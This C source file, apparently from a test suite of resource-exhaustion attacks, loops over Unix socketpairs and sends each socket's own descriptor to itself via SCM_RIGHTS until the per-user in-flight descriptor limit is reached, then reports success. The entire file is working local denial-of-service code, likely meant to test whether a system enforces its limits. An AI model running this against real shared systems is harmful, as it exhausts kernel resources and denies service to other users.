// Sends descriptors that nobody receives, until the user has as many in flight as it may.
#include "attack.h"

#include <poll.h>
#include <sys/socket.h>

static int send_itself(int to) {
  char space[CMSG_SPACE(sizeof(int))] = {0};
  struct iovec byte = {"x", 1};
  struct msghdr message = {
      .msg_iov = &byte, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
  *CMSG_FIRSTHDR(&message) = (struct cmsghdr){CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS};
  memcpy(CMSG_DATA(CMSG_FIRSTHDR(&message)), &to, sizeof to);
  return sendmsg(to, &message, MSG_DONTWAIT) == 1;
}

int main(void) {
  int sent = 0;
  for (int ends[2]; socketpair(AF_UNIX, SOCK_DGRAM, 0, ends) == 0;)
    while (send_itself(ends[0])) ++sent;
  dprintf(1, "SUCCEEDED in leaving %d descriptors in flight\n", sent);
  poll(NULL, 0, 1200);
  return 0;
}
